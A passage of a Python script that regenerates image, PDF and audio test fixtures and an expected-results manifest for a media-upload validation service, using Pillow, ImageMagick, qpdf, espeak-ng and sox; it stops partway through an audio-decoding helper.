#!/usr/bin/python3
"""Regenerate every mediaworker test fixture and Fixtures/fixtures.json.

Run from anywhere:  /usr/bin/python3 Fixtures/make_fixtures.py

Source photos come from Debian's mate-backgrounds package. If they are not
already extracted (default /tmp/wall, override with MW_WALLPAPER_ROOT), the
script runs `apt-get download mate-backgrounds` and `dpkg -x` into a temp dir.

Needs (Debian bookworm): python3-pil, imagemagick, libimage-exiftool-perl,
qpdf, webp, espeak-ng, sox, libsox-fmt-base, opus-tools, lame, vorbis-tools,
ffmpeg, file, libopusfile0, libvorbisfile3, libmpg123-0 (durations, via ctypes),
libvips-tools (verification).
Everything is seeded / pinned so that, with the same package versions, the
output is byte-for-byte identical -- except the two AES-256 encrypted PDFs
(qpdf always draws a random file key for R6 encryption).
"""

import atexit
import io
import json
import math
import os
import random
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib

from PIL import Image, ImageDraw, ImageFont

from fixture_common import HERE, out, run, wallpaper_root  # shared with the other generator
FIVE_MIB = 5 * 1024 * 1024
MAX_THUMB = 480

fixtures = []   # manifest entries, in order


# --------------------------------------------------------------------------- helpers

def write_bytes(rel, data):
    with open(out(rel), "wb") as f:
        f.write(data)
    return rel


def libmagic(rel):
    # `file` reads the bytes through the same libmagic the service uses (magic_buffer). The one
    # difference: for a zero-byte path `file` reports the inode (inode/x-empty), while
    # magic_buffer on zero bytes says application/x-empty, which is what the service sees.
    path = os.path.join(HERE, rel)
    if os.path.getsize(path) == 0:
        return "application/x-empty"
    return subprocess.run(["file", "--mime-type", "-b", path],
                          check=True, capture_output=True, text=True).stdout.strip()


# libmagic names a few types differently from what the service reports; the service maps them.
CANONICAL_TYPES = {
    "audio/x-m4a": "audio/mp4",
    "audio/x-hx-aac-adts": "audio/aac",
    "audio/x-wav": "audio/wav",
}


def canonical_type(mime):
    return CANONICAL_TYPES.get(mime, mime)


def thumb(w, h, alpha=False):
    s = min(1.0, MAX_THUMB / max(w, h))
    return {"width": int(math.floor(w * s + 0.5)), "height": int(math.floor(h * s + 0.5)),
            "hasAlpha": alpha}


def add(id, rel, description, expect, frm="visitor", declared=None, name=None, derive=None):
    entry = {"id": id, "file": rel, "description": description, "from": frm,
             "declaredType": declared, "fileName": name}
    if derive:
        entry["derive"] = derive
    # detectedType is always what libmagic says about the bytes on disk, mapped to the canonical
    # name the service reports (CANONICAL_TYPES); appending zero bytes does not change it here.
    e = dict(expect)
    det = canonical_type(libmagic(rel))
    if "detectedType" in e and e["detectedType"] != det:
        sys.exit(f"{id}: libmagic says {det}, expected {e['detectedType']}")
    e["detectedType"] = det
    # keep a stable key order: status, reason, detectedType, ...
    ordered = {"status": e.pop("status")}
    if "reason" in e:
        ordered["reason"] = e.pop("reason")
    ordered["detectedType"] = e.pop("detectedType")
    ordered.update(e)
    entry["expect"] = ordered
    fixtures.append(entry)


def accepted_image(w, h, alpha=False):
    return {"status": "accepted", "kind": "image", "thumbnail": thumb(w, h, alpha)}


def rejected(reason, detected=None):
    e = {"status": "rejected", "reason": reason}
    if detected:
        e["detectedType"] = detected
    return e


def save_jpeg(img, rel, quality, progressive=False, subsampling=2):
    img.save(out(rel), "JPEG", quality=quality, progressive=progressive,
             optimize=progressive, subsampling=subsampling)
    return rel


def crop_to(img, w, h):
    """Centre-crop img to aspect w:h, then resize to exactly w x h."""
    sw, sh = img.size
    if sw * h > sh * w:          # too wide
        nw = sh * w // h
        box = ((sw - nw) // 2, 0, (sw - nw) // 2 + nw, sh)
    else:
        nh = sw * h // w
        box = (0, (sh - nh) // 2, sw, (sh - nh) // 2 + nh)
    res = img.crop(box).resize((w, h), Image.LANCZOS)
    res.info = {}                # drop inherited COM ("Created with GIMP"), dpi, etc.
    return res


# --------------------------------------------------------------------------- sources

ROOT = wallpaper_root()
NATURE = os.path.join(ROOT, "usr/share/backgrounds/mate/nature")
ELEPHANTS = os.path.join(ROOT, "usr/share/backgrounds/mate/abstract/Elephants_5640x3172.jpg")


def photo(name):
    img = Image.open(os.path.join(NATURE, name)).convert("RGB")
    img.info = {}
    return img


# --------------------------------------------------------------------------- images

def make_images():
    # 1. WhatsApp-like photo: 1600x1000 baseline q75 4:2:0, no metadata.
    dune = photo("Dune.jpg")                         # 1680x1050, 16:10
    wa = save_jpeg(crop_to(dune, 1600, 1000), "images/whatsapp_photo.jpg", 75)
    add("jpeg-whatsapp-photo", wa,
        "real photo (mate Dune.jpg) re-encoded like WhatsApp: 1600x1000 baseline q75 4:2:0, no metadata",
        accepted_image(1600, 1000), declared="image/jpeg", name="IMG-20261125-WA0001.jpg")
    add("jpeg-whatsapp-photo-operator", wa,
        "same WhatsApp photo sent by an operator (images are allowed for operators)",
        accepted_image(1600, 1000), frm="operator", declared="image/jpeg", name="offer.jpg")

    # 2. Camera photo padded to exactly 5 MiB with COM segments after SOI.
    ele = Image.open(ELEPHANTS).convert("RGB")        # 5640x3172
    W, H = 4000, 3000
    x0, y0 = (ele.width - W) // 2, (ele.height - H) // 2
    cam = ele.crop((x0, y0, x0 + W, y0 + H))
    data = None
    for q in range(97, 60, -1):
        buf = io.BytesIO()
        cam.save(buf, "JPEG", quality=q, subsampling=2)
        if buf.tell() <= FIVE_MIB - 4096:
            data, cam_q = buf.getvalue(), q
            break
    assert data and data[:2] == b"\xff\xd8"
    need = FIVE_MIB - len(data)
    nseg = -(-need // 65537)                         # each segment: 4 + <=65533 bytes
    segs, left = [], need
    filler = b"mediaworker fixture padding: this COM segment makes the file exactly 5 MiB. "
    for i in range(nseg):
        size = left // (nseg - i)
        payload = (filler * (size // len(filler) + 1))[:size - 4]
        segs.append(b"\xff\xfe" + struct.pack(">H", len(payload) + 2) + payload)
        left -= size
    big = data[:2] + b"".join(segs) + data[2:]
    assert len(big) == FIVE_MIB, len(big)
    cam_rel = write_bytes("images/camera_5mib.jpg", big)
    add("jpeg-camera-5mib", cam_rel,
        f"12 MP real photo (4000x3000 crop of mate Elephants_5640x3172) baseline q{cam_q}, padded "
        "with COM segments after SOI to exactly 5,242,880 bytes (the inclusive limit)",
        accepted_image(W, H), declared="image/jpeg", name="IMG_20261125_160000.jpg")
    add("jpeg-camera-5mib-plus-1", cam_rel,
        "the 5 MiB photo plus one appended zero byte: 5,242,881 bytes",
        rejected("too_large"), declared="image/jpeg", name="IMG_20261125_160001.jpg",
        derive={"appendBytes": 1})

    # 3. Progressive JPEG.
    prog = save_jpeg(crop_to(photo("RainDrops.jpg"), 1600, 1000), "images/progressive.jpg", 75,
                     progressive=True)
    add("jpeg-progressive", prog, "progressive (optimised Huffman) JPEG real photo 1600x1000 q75",
        accepted_image(1600, 1000), declared="image/jpeg", name="IMG-20261125-WA0002.jpg")

    # 4. CMYK JPEG via ImageMagick.
    tmp = tempfile.mkdtemp(prefix="mw-fx-")
    src = os.path.join(tmp, "ladybird.ppm")
    crop_to(photo("LadyBird.jpg"), 1200, 800).save(src)
    cmyk = "images/cmyk.jpg"
    run("convert", src, "-colorspace", "CMYK", "-quality", "80", "-strip", out(cmyk))
    add("jpeg-cmyk", cmyk, "CMYK JPEG (convert -colorspace CMYK, Adobe marker) 1200x800",
        accepted_image(1200, 800), declared="image/jpeg", name="print.jpg")

    # 5. Greyscale JPEG.
    grey = save_jpeg(crop_to(photo("Garden.jpg"), 1200, 900).convert("L"),
                     "images/greyscale.jpg", 80)
    add("jpeg-greyscale", grey, "single-channel greyscale JPEG 1200x900",
        accepted_image(1200, 900), declared="image/jpeg", name="bw.jpg")

    # 6. EXIF Orientation=6 + GPS. Stored 1200x800 (landscape); the pixels are a portrait
    #    picture rotated 90 deg CCW, so a viewer honouring Orientation=6 shows it upright 800x1200.
    portrait = crop_to(photo("YellowFlower.jpg"), 800, 1200)
    stored = portrait.transpose(Image.ROTATE_90)
    assert stored.size == (1200, 800)
    rot = save_jpeg(stored, "images/exif_rotated_gps.jpg", 78)
    run("exiftool", "-q", "-overwrite_original", "-n",
        "-Orientation=6",
        "-Make=Fixture", "-Model=Phone 1",
        "-DateTimeOriginal=2026:11:25 16:00:00",
        "-GPSVersionID=2 3 0 0",
        "-GPSLatitudeRef=N", "-GPSLatitude=52.520008",
        "-GPSLongitudeRef=E", "-GPSLongitude=13.404954",
        "-GPSAltitudeRef=0", "-GPSAltitude=34",
        "-GPSTimeStamp=16:00:00", "-GPSDateStamp=2026:11:25",
        out(rot))
    add("jpeg-exif-rotated-gps", rot,
        "stored 1200x800 with EXIF Orientation=6 (displays portrait 800x1200) and GPS tags; "
        "the thumbnail must be 320x480 and carry no EXIF/GPS",
        accepted_image(800, 1200), declared="image/jpeg", name="IMG_20261125_160002.jpg")

    # 7. Small JPEG: never upscaled.
    small = save_jpeg(crop_to(photo("TwoWings.jpg"), 300, 200), "images/small_300x200.jpg", 80)
    add("jpeg-small-no-upscale", small, "300x200 JPEG; thumbnail stays 300x200 (never upscaled)",
        accepted_image(300, 200), declared="image/jpeg", name="tiny.jpg")

    # 8. JPEG with a .png name, declared image/png.
    lie = save_jpeg(crop_to(photo("Aqua.jpg"), 640, 400), "images/really_a_jpeg.png", 75)
    add("jpeg-declared-png", lie, "640x400 JPEG declared image/png with file name photo.png",
        accepted_image(640, 400), declared="image/png", name="photo.png")

    # 9. PNG RGBA with real alpha: photo inside a soft-edged rounded mask.
    w, h = 640, 400
    rgba = crop_to(photo("FreshFlower.jpg"), w, h).convert("RGBA")
    mask = Image.new("L", (w, h), 0)
    d = ImageDraw.Draw(mask)
    d.rounded_rectangle((20, 20, w - 21, h - 21), radius=80, fill=255)
    d.ellipse((w // 2 - 60, h // 2 - 60, w // 2 + 60, h // 2 + 60), fill=96)   # see-through hole
    rgba.putalpha(mask)
    rgba.save(out("images/rgba_alpha.png"), optimize=True)
    add("png-rgba-alpha", "images/rgba_alpha.png",
        "8-bit RGBA PNG, photo with transparent rounded corners and a half-transparent hole",
        accepted_image(w, h, True), declared="image/png", name="sticker.png")

    # 10. 16-bit RGB PNG (ImageMagick; date/time chunks excluded for reproducibility).
    p16 = "images/rgb16.png"
    run("convert", "-size", "800x600", "gradient:#102040-#f0c080", "-rotate", "0",
        "(", "-size", "800x600", "gradient:#ff000000-#00ff0080", "-rotate", "90", "-resize",
        "800x600!", ")", "-compose", "over", "-composite", "-alpha", "off", "-depth", "16",
        "-define", "png:exclude-chunks=date,time,tEXt,zTXt,iTXt", "png48:" + out(p16))
    add("png-16bit-rgb", p16, "16-bit-per-channel RGB PNG (48-bit), 800x600 smooth gradients",
        accepted_image(800, 600), declared="image/png", name="gradient.png")

    # 11. Palette (indexed) PNG.
    pal = crop_to(photo("Wood.jpg"), 640, 427).quantize(colors=128, method=Image.MEDIANCUT,
                                                         dither=Image.NONE)
    pal.save(out("images/palette.png"), optimize=True)
    add("png-palette", "images/palette.png", "indexed-colour (PLTE, 128 colours, no tRNS) PNG 640x427",
        accepted_image(640, 427), declared="image/png", name="palette.png")

    # 12. Adam7 interlaced PNG (vips pngsave --interlace).
    src = os.path.join(tmp, "adam7.png")
    img = Image.new("RGB", (960, 600), (240, 240, 236))
    d = ImageDraw.Draw(img)
    for i in range(12):
        d.rectangle((i * 80, 0, i * 80 + 39, 599), fill=(30 + i * 18, 90, 200 - i * 12))
    d.ellipse((280, 100, 680, 500), fill=(250, 200, 40), outline=(20, 20, 20), width=6)
    img.save(src)
    run("vips", "pngsave", src, out("images/adam7_interlaced.png"), "--interlace", "--strip")
    add("png-adam7-interlaced", "images/adam7_interlaced.png", "Adam7-interlaced RGB PNG 960x600",
        accepted_image(960, 600), declared="image/png", name="chart.png")

    # 13. Screenshot-like phone PNG 1080x2340 (chat UI drawn with Pillow).
    make_screenshot("images/screenshot_1080x2340.png")
    add("png-screenshot", "images/screenshot_1080x2340.png",
        "phone screenshot-like RGB PNG 1080x2340 (flat UI colours and text)",
        accepted_image(1080, 2340), declared="image/png", name="Screenshot_20261125-160000.png")

    # 14. Animated GIF89a with transparency.
    frames = []
    W, H = 600, 400
    for i in range(8):
        f = Image.new("P", (W, H), 0)
        f.putpalette([0, 0, 0, 230, 60, 60, 60, 160, 230, 250, 210, 40] + [0] * (256 * 3 - 12))
        d = ImageDraw.Draw(f)
        cx = 80 + i * 60
        d.ellipse((cx - 60, 140, cx + 60, 260), fill=1 + (i % 3))
        d.rectangle((0, 360, W - 1, 399), fill=3)
        frames.append(f)
    frames[0].save(out("images/animated_transparent.gif"), save_all=True, append_images=frames[1:],
                   duration=100, loop=0, transparency=0, disposal=2, optimize=False)
    add("gif-animated-transparent", "images/animated_transparent.gif",
        "animated GIF89a, 8 frames, 600x400 logical screen, transparent background",
        accepted_image(W, H, True), declared="image/gif", name="sticker.gif")

    # 15. GIF87a (no extensions at all -> Pillow writes the 87a signature).
    g = crop_to(photo("GreenMeadow.jpg"), 400, 300).quantize(colors=64, method=Image.MEDIANCUT,
                                                              dither=Image.NONE)
    g.info.clear()
    g.save(out("images/gif87a.gif"))
    with open(out("images/gif87a.gif"), "rb") as fh:
        assert fh.read(6) == b"GIF87a"
    add("gif87a", "images/gif87a.gif", "still GIF87a 400x300, 64 colours, no transparency",
        accepted_image(400, 300), declared="image/gif", name="old.gif")

    shutil.rmtree(tmp)


def make_screenshot(rel):
    W, H = 1080, 2340
    img = Image.new("RGB", (W, H), (236, 229, 221))
    d = ImageDraw.Draw(img)
    try:
        font = ImageFont.truetype("DejaVuSans.ttf", 40)
        small = ImageFont.truetype("DejaVuSans.ttf", 30)
        tiny = ImageFont.truetype("DejaVuSans.ttf", 20)
    except OSError:
        font = small = tiny = ImageFont.load_default()
    d.rectangle((0, 0, W, 90), fill=(7, 94, 84))
    d.text((40, 25), "16:00", fill=(255, 255, 255), font=small)
    d.rectangle((0, 90, W, 250), fill=(7, 94, 84))
    d.ellipse((40, 115, 150, 225), fill=(200, 200, 200))
    d.text((180, 130), "Support desk", fill=(255, 255, 255), font=font)
    d.text((180, 185), "online", fill=(220, 240, 235), font=small)
    rnd = random.Random(1125)
    words = ("hello order invoice photo attached please check the delivery thanks when "
             "tomorrow address number receipt payment received ok great").split()
    y, right = 300, False
    while y < H - 300:
        n = rnd.randint(3, 9)
        text = " ".join(rnd.choice(words) for _ in range(n))
        tw = int(d.textlength(text, font=font)) + 60
        x0 = W - tw - 40 if right else 40
        d.rounded_rectangle((x0, y, x0 + tw, y + 100), radius=24,
                            fill=(220, 248, 198) if right else (255, 255, 255))
        d.text((x0 + 30, y + 25), text, fill=(20, 20, 20), font=font)
        d.text((x0 + tw - 110, y + 68), "16:%02d" % rnd.randint(0, 59), fill=(120, 120, 120),
               font=tiny)
        y += 140
        right = not right
    d.rectangle((0, H - 200, W, H), fill=(240, 240, 240))
    d.rounded_rectangle((30, H - 170, W - 170, H - 60), radius=55, fill=(255, 255, 255))
    d.text((80, H - 140), "Message", fill=(150, 150, 150), font=font)
    d.ellipse((W - 150, H - 175, W - 30, H - 55), fill=(0, 168, 132))
    img.save(out(rel), optimize=True)


# --------------------------------------------------------------------------- PDF

def pdf_bytes(objects, root=1):
    """objects: list of bytes bodies for objects 1..n. Returns a PDF with a correct xref."""
    buf = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(buf))
        buf += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(buf)
    buf += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        buf += b"%010d 00000 n \n" % off
    buf += (b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R >>\nstartxref\n%d\n%%%%EOF\n"
            % (len(objects) + 1, root, len(objects), xref))
    return bytes(buf)


def stream(dict_entries, data, compress=True):
    if compress:
        data = zlib.compress(data, 9)
        dict_entries += b" /Filter /FlateDecode"
    return b"<< %s /Length %d >>\nstream\n" % (dict_entries, len(data)) + data + b"\nendstream"


def pdf_escape(s):
    return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1")


INFO = b"<< /Title (mediaworker fixture) /Producer (make_fixtures.py) /CreationDate (D:20261125160000Z) >>"


def text_pdf():
    lorem = ("The customer wrote on Tuesday about order 4711. The parcel arrived with a "
             "damaged corner, and a replacement was requested. Our desk confirmed the "
             "address, issued a credit note and scheduled a new delivery for Thursday. "
             "All amounts are in euro and include VAT.").split()
    pages = []
    for p in range(3):
        lines = [f"Invoice 2026-11-{25 + p:02d}   page {p + 1} of 3", ""]
        line = ""
        for k in range(60):
            wd = lorem[(k + p * 7) % len(lorem)]
            if len(line) + len(wd) > 78:
                lines.append(line)
                line = ""
            line += wd + " "
        lines.append(line)
        lines += ["", "Item                         Qty      Price", "-" * 44]
        for i in range(8):
            lines.append(f"Article {p * 8 + i + 1:03d}                     {i % 3 + 1}     {12.5 * (i + 1):8.2f}")
        ops = [b"BT /F1 12 Tf 14 TL 56 780 Td"]
        for i, ln in enumerate(lines):
            if i == 0:
                ops.append(b"/F1 18 Tf (%s) Tj /F1 12 Tf T* T*" % pdf_escape(ln))
            else:
                ops.append(b"(%s) Tj T*" % pdf_escape(ln))
        ops.append(b"ET")
        pages.append(b"\n".join(ops))
    # objects: 1 catalog, 2 pages, 3 font, then (page, content) pairs, last info
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", None,
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"]
    kids = []
    for c in pages:
        page_no = len(objs) + 1
        kids.append(b"%d 0 R" % page_no)
        objs.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
                    b"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>" % (page_no + 1))
        objs.append(stream(b"", c))
    objs[1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(kids), len(kids))
    objs.append(INFO)
    return pdf_bytes(objs)


def image_pdf(jpeg, w, h):
    content = b"q %d 0 0 %d 0 0 cm /Im0 Do Q" % (w, h)
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] "
            b"/Resources << /XObject << /Im0 5 0 R >> >> /Contents 4 0 R >>" % (w, h),
            stream(b"", content),
            stream(b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB "
                   b"/BitsPerComponent 8 /Filter /DCTDecode" % (w, h), jpeg, compress=False),
            INFO]
    return pdf_bytes(objs)


def make_documents():
    doc = {"status": "accepted", "kind": "document"}
    t = write_bytes("documents/text_3_pages.pdf", text_pdf())
    add("pdf-text-3-pages", t, "3-page A4 (595x842 pt) PDF with real text (Helvetica), Flate streams",
        dict(doc, thumbnail=thumb(595, 842)), declared="application/pdf", name="invoice.pdf")

    buf = io.BytesIO()
    crop_to(photo("Blinds.jpg"), 1000, 667).save(buf, "JPEG", quality=70)
    im = write_bytes("documents/image_only.pdf", image_pdf(buf.getvalue(), 1000, 667))
    add("pdf-image-only", im, "1-page image-only PDF: a 1000x667 JPEG photo filling a 1000x667 pt page",
        dict(doc, thumbnail=thumb(1000, 667)), declared="application/pdf", name="scan.pdf")
    add("pdf-declared-octet-stream", im,
        "the image-only PDF declared application/octet-stream with file name 'scan' (no extension)",
        dict(doc, thumbnail=thumb(1000, 667)), declared="application/octet-stream", name="scan")

    # qpdf --static-id/--static-aes-iv (test-only options) pin the /ID and the AES IVs, but
    # AES-256 (R6) still draws a random file key, so these two files differ byte-wise on every
    # run; their expectations do not.
    enc = "documents/encrypted_user_password.pdf"
    run("qpdf", "--static-id", "--static-aes-iv", "--encrypt", "user", "owner", "256", "--",
        out(t), out(enc))
    add("pdf-encrypted-user-password", enc,
        "the 3-page text PDF AES-256 encrypted with user password 'user' (owner 'owner'): "
        "cannot be rendered, accepted without preview",
        dict(doc, thumbnail=None, previewUnavailable="encrypted"),
        declared="application/pdf", name="statement.pdf")
    own = "documents/encrypted_owner_only.pdf"
    run("qpdf", "--static-id", "--static-aes-iv", "--encrypt", "", "owner", "256", "--",
        out(t), out(own))
    add("pdf-encrypted-owner-only", own,
        "the 3-page text PDF AES-256 encrypted with an owner password only (empty user password): "
        "opens without a password, so a preview is made",
        dict(doc, thumbnail=thumb(595, 842)), declared="application/pdf", name="contract.pdf")


# --------------------------------------------------------------------------- audio

def ogg_pages(data):
    pos = 0
    while pos < len(data):
        assert data[pos:pos + 4] == b"OggS", pos
        granule = struct.unpack_from("<q", data, pos + 6)[0]
        nseg = data[pos + 26]
        lacing = data[pos + 27:pos + 27 + nseg]
        body = pos + 27 + nseg
        yield granule, data[body:body + sum(lacing)]
        pos = body + sum(lacing)


def opus_duration_ms(data):
    pages = list(ogg_pages(data))
    head = pages[0][1]
    assert head[:8] == b"OpusHead"
    pre_skip = struct.unpack_from("<H", head, 10)[0]
    last = max(g for g, _ in pages)
    return round((last - pre_skip) * 1000 / 48000), pre_skip, last


def make_audio():
    tmp = tempfile.mkdtemp(prefix="mw-audio-")
    wav = os.path.join(tmp, "speech.wav")
    wav16 = os.path.join(tmp, "speech16k.wav")
    run("espeak-ng", "-v", "en-us", "-s", "150", "-w", wav,
        "Hello, this is a voice note. My order number is four seven one one.")
    run("sox", "-D", wav, "-r", "16000", "-c", "1", "-b", "16", wav16)   # -D: no (random) dither
    rel = "audio/voice_note.ogg"
    run("opusenc", "--quiet", "--serial", "20261125", "--bitrate", "16", "--comp", "10",
        "--framesize", "20", wav16, out(rel))
    with open(out(rel), "rb") as f:
        ms, pre, gran = opus_duration_ms(f.read())
    assert 2000 <= ms <= 6000, ms
    shutil.rmtree(tmp)
    desc = (f"espeak-ng speech, 16 kHz mono -> Ogg/Opus 16 kbps, {ms} ms "
            f"(final granule {gran} - pre-skip {pre}) / 48 kHz")
    add("ogg-opus-voice-note", rel, "WhatsApp-like voice note: " + desc,
        {"status": "accepted", "kind": "voice_note", "playback": {"durationMs": ms}},
        declared="audio/ogg; codecs=opus", name="PTT-20261125-WA0001.opus")
    add("ogg-opus-voice-note-operator", rel, "the same voice note sent by an operator",
        rejected("operator_audio_not_allowed"), frm="operator",
        declared="audio/ogg; codecs=opus", name="PTT-20261125-WA0002.opus")
    add("ogg-opus-operator-declared-pdf", rel,
        "the same voice note sent by an operator, declared application/pdf as invoice.pdf",
        rejected("operator_audio_not_allowed"), frm="operator",
        declared="application/pdf", name="invoice.pdf")


# --------------------------------------------------------------------------- more voice notes
#
# Real speech (espeak-ng) in the formats WhatsApp and browsers carry. Durations: every accepted note's
# durationMs is the number of samples the service's own decoder library yields for the SOURCE
# (libopusfile / libvorbisfile / libmpg123, loaded here through ctypes), * 1000 / rate, rounded half
# away from zero like Swift's rounded(). For an intact Opus stream that equals (last granule -
# pre-skip) / 48, for Vorbis ov_pcm_total, for a LAME-tagged MP3 the length of the PCM given to lame;
# the script asserts those cross-checks too.

SUPPORT_LINES = [
    "Hi, I ordered a blue jacket last week and it still has not arrived.",
    "Could you please check the tracking number for me?",
    "The parcel says delivered, but there is nothing at my door.",
    "I was charged twice for the same order. Can you refund one of the payments?",
    "My account is locked since I tried to reset the password this morning.",
    "The size is too small, so I would like to exchange it for a large one.",
    "Can I change the delivery address to my office on Baker Street?",
    "The screen of the phone was cracked when I opened the box.",
    "I will send you a photo of the receipt in a minute.",
    "Please call me back after five o'clock, I am at work until then.",
    "My order number is four seven one one, and the postcode is one zero one one five.",
    "The discount code from your newsletter does not work at the checkout.",
    "Is it possible to pay by bank transfer instead of credit card?",
    "Thank you very much for your help, have a nice day.",
]


def ms_half_up(samples, rate):
    """samples / rate in ms, rounded half away from zero (Swift's rounded())."""
    return (2 * samples * 1000 + rate) // (2 * rate)


def sox_samples(path):
    return int(subprocess.run(["soxi", "-s", path], check=True, capture_output=True,
                              text=True).stdout.strip())


def speak(tmp, name, text, voice="en-us", speed=160, rate=16000, target_ms=None):
    """espeak-ng -> mono 16-bit wav at `rate`, trailing silence trimmed, then padded with silence
    (or cut) to exactly target_ms. Returns the wav path."""
    raw = os.path.join(tmp, name + ".raw.wav")
    wav = os.path.join(tmp, name + ".wav")
    run("espeak-ng", "-v", voice, "-s", speed, "-w", raw, text)
    trimmed = os.path.join(tmp, name + ".trim.wav")
    run("sox", "-D", "-v", "0.8", raw, "-r", rate, "-c", "1", "-b", "16", trimmed,   # -v: no clipping
        "reverse", "silence", "1", "0.02", "0.5%", "reverse")
    if target_ms is None:
        os.replace(trimmed, wav)
        return wav
    have, want = sox_samples(trimmed), rate * target_ms // 1000
    assert rate * target_ms % 1000 == 0
    if os.environ.get("MW_FIXTURE_DEBUG"):
        print(f"{name}: {have / rate:.3f} s of speech for {target_ms} ms")
    assert have <= want * 1.15, f"{name}: {have / rate:.2f} s of speech for a {target_ms} ms note"
    if have >= want:
        run("sox", "-D", trimmed, wav, "trim", "0", f"{want}s")
    else:
        run("sox", "-D", trimmed, wav, "pad", "0", f"{want - have}s")
    assert sox_samples(wav) == want
    return wav


def concat(tmp, name, wavs, rate, target_ms):
    """Join wavs with 400 ms pauses, then pad/cut to exactly target_ms."""
    gap = os.path.join(tmp, "gap.wav")
    run("sox", "-D", "-n", "-r", rate, "-c", "1", "-b", "16", gap, "trim", "0", "0.4")
    joined = os.path.join(tmp, name + ".joined.wav")
    parts = [wavs[0]]
    for w in wavs[1:]:
        parts += [gap, w]
    if len(parts) > 1:
        run("sox", "-D", *parts, joined)
    else:
        shutil.copyfile(parts[0], joined)
    have, want = sox_samples(joined), rate * target_ms // 1000
    if os.environ.get("MW_FIXTURE_DEBUG"):
        print(f"{name}: {have / rate:.3f} s of speech for {target_ms} ms")
    assert want * 0.85 <= have <= want * 1.15, (name, have / rate)
    wav = os.path.join(tmp, name + ".wav")
    if have >= want:
        run("sox", "-D", joined, wav, "trim", "0", f"{want}s", "fade", "t", "0", "-0", "0.05")
    else:
        run("sox", "-D", joined, wav, "pad", "0", f"{want - have}s")
    assert sox_samples(wav) == want
    return wav


def opusenc(wav, rel, serial, bitrate=16, extra=()):
    run("opusenc", "--quiet", "--serial", serial, "--bitrate", bitrate, "--comp", "10",
        "--framesize", "20", *extra, wav, out(rel))
    return rel


def ogg_page_spans(data):
    """(offset, length, granule, flags) of every complete Ogg page."""
    spans, pos = [], 0
    while pos + 27 <= len(data) and data[pos:pos + 4] == b"OggS":
        nseg = data[pos + 26]
        if pos + 27 + nseg > len(data):
            break
        end = pos + 27 + nseg + sum(data[pos + 27:pos + 27 + nseg])
        if end > len(data):
            break
        spans.append((pos, end - pos, struct.unpack_from("<q", data, pos + 6)[0], data[pos + 5]))
        pos = end
    return spans


def _ogg_crc_table():
    table = []
    for i in range(256):
        r = i << 24
        for _ in range(8):
            r = ((r << 1) ^ 0x04C11DB7) if r & 0x80000000 else (r << 1)
        table.append(r & 0xFFFFFFFF)
    return table


OGG_CRC_TABLE = _ogg_crc_table()


def ogg_crc(page):
    """Ogg's CRC-32: polynomial 0x04C11DB7, not reflected, init 0, no final xor (CRC field zeroed)."""
    crc = 0
    for b in page:
        crc = ((crc << 8) & 0xFFFFFFFF) ^ OGG_CRC_TABLE[((crc >> 24) ^ b) & 0xFF]
    return crc


def opus_pre_skip(data):
    head = next(ogg_pages(data))[1]
    assert head[:8] == b"OpusHead"
    return struct.unpack_from("<H", head, 10)[0]


class _Lib:
    """The decoder libraries the service links, through ctypes, to count decoded samples."""
    _cache = {}

    @classmethod
    def get(cls, soname):
        import ctypes
        if soname not in cls._cache:
            try:
                cls._cache[soname] = ctypes.CDLL(soname)
            except OSError:
                sys.exit(f"{soname} is missing: apt-get install libopusfile0 libvorbisfile3 libmpg123-0")
        return cls._cache[soname]


def opusfile_decode(path):
    """(samples per channel libopusfile decodes, op_pcm_total) at 48 kHz."""
    import ctypes
    lib = _Lib.get("libopusfile.so.0")
    lib.op_open_file.restype = ctypes.c_void_p
    lib.op_open_file.argtypes = [ctypes.c_char_p, ctypes.POINTER(ctypes.c_int)]
    lib.op_read_float.argtypes = [ctypes.c_void_p, ctypes.POINTER(ctypes.c_float), ctypes.c_int,
                                  ctypes.c_void_p]
    lib.op_pcm_total.restype = ctypes.c_int64
    lib.op_pcm_total.argtypes = [ctypes.c_void_p, ctypes.c_int]
    lib.op_free.argtypes = [ctypes.c_void_p]
    err = ctypes.c_int(0)
    of = lib.op_open_file(path.encode(), ctypes.byref(err))
    assert of, f"op_open_file({path}) failed: {err.value}"
    total = lib.op_pcm_total(of, -1)
    buf = (ctypes.c_float * (5760 * 8))()
    n = 0
    while True:
        r = lib.op_read_float(of, buf, len(buf), None)
        if r == -3:            # OP_HOLE: skipped, as the service does
            continue
        assert r >= 0, f"op_read_float({path}) = {r}"
        if r == 0:
            break
        n += r
    lib.op_free(of)
    return n, total


def opusfile_total(path):
    """op_pcm_total only (no decoding): what the service checks against the duration limit."""
    import ctypes
    lib = _Lib.get("libopusfile.so.0")
    lib.op_open_file.restype = ctypes.c_void_p
    lib.op_open_file.argtypes = [ctypes.c_char_p, ctypes.POINTER(ctypes.c_int)]
    lib.op_pcm_total.restype = ctypes.c_int64
    lib.op_pcm_total.argtypes = [ctypes.c_void_p, ctypes.c_int]
    lib.op_free.argtypes = [ctypes.c_void_p]
    err = ctypes.c_int(0)
    of = lib.op_open_file(path.encode(), ctypes.byref(err))
    assert of, f"op_open_file({path}) failed: {err.value}"
    total = lib.op_pcm_total(of, -1)
    lib.op_free(of)
    return total


def vorbisfile_decode(path):
    """(samples per channel libvorbisfile decodes, ov_pcm_total, rate)."""
    import ctypes
    lib = _Lib.get("libvorbisfile.so.3")
    vf = ctypes.create_string_buffer(8192)          # > sizeof(OggVorbis_File)
    assert lib.ov_fopen(path.encode(), vf) == 0
    lib.ov_pcm_total.restype = ctypes.c_int64
